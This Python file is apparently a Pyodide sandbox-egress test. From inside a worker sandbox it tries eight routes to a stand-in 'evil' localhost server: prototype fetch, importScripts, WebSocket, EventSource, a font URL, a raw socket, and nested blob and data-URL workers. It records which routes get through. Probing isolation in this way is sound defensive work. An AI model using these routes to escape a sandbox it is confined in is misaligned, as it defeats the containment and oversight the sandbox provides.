"""Runs inside the sandbox and tries every way to the network that a worker has. Each address asked for ends in the
name of the way, so that the server at the other end can tell which of them came through.

The question is JSON: {"evil": "127.0.0.1:PORT", "worker": JavaScript for a worker of our own}.
"""

import asyncio
import json
import socket
from typing import Any

import js  # type: ignore[import-not-found]
from pyodide.ffi import create_proxy, to_js


def first_event(target: Any, *names: str) -> asyncio.Future[Any]:
    """Resolves when one of the events comes."""
    done = asyncio.get_running_loop().create_future()

    def come(event: Any) -> None:
        if not done.done():
            done.set_result(event)

    proxy = create_proxy(come)
    for name in names:
        target.addEventListener(name, proxy)
    return done


def blob_url(text: str) -> Any:
    return js.URL.createObjectURL(js.Blob.new(to_js([text])))


async def prototype_fetch(http: str, ws: str, worker: str) -> None:
    await js.WorkerGlobalScope.prototype.fetch.call(js.globalThis, f"{http}/prototype_fetch")


async def import_scripts(http: str, ws: str, worker: str) -> None:
    js.WorkerGlobalScope.prototype.importScripts.call(js.globalThis, f"{http}/import_scripts")


async def websocket(http: str, ws: str, worker: str) -> None:
    await first_event(js.WebSocket.new(f"{ws}/websocket"), "open", "error")


async def event_source(http: str, ws: str, worker: str) -> None:
    source = js.EventSource.new(f"{http}/event_source")
    await first_event(source, "open", "error")
    source.close()


async def font(http: str, ws: str, worker: str) -> None:
    await js.FontFace.new("Evil", f"url({http}/font)").load()


async def python_socket(http: str, ws: str, worker: str) -> None:
    host, port = http.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=2) as connection:
        connection.send(b"GET /python_socket HTTP/1.1\r\n\r\n")
        connection.recv(1)


async def nested(http: str, ws: str, worker: str) -> None:
    made = js.Worker.new(blob_url(worker.replace("HTTP", http).replace("WS", ws).replace("NAME", "nested")))
    await first_event(made, "message", "error")
    made.terminate()


async def data_worker(http: str, ws: str, worker: str) -> None:
    code = worker.replace("HTTP", http).replace("WS", ws).replace("NAME", "data_worker")
    made = js.Worker.new("data:text/javascript," + js.encodeURIComponent(code))
    await first_event(made, "message", "error")
    made.terminate()


WAYS = [prototype_fetch, import_scripts, websocket, event_source, font, python_socket, nested, data_worker]


async def agent(question: str) -> str:
    told = json.loads(question)
    http, ws = "http://" + told["evil"], "ws://" + told["evil"]
    said = {}
    for way in WAYS:
        try:
            await asyncio.wait_for(way(http, ws, told["worker"]), 5)
            said[way.__name__] = "no error"
        except BaseException as error:  # a way that is shut may say so in any manner
            said[way.__name__] = f"{type(error).__name__}: {error}"
    return json.dumps(said)
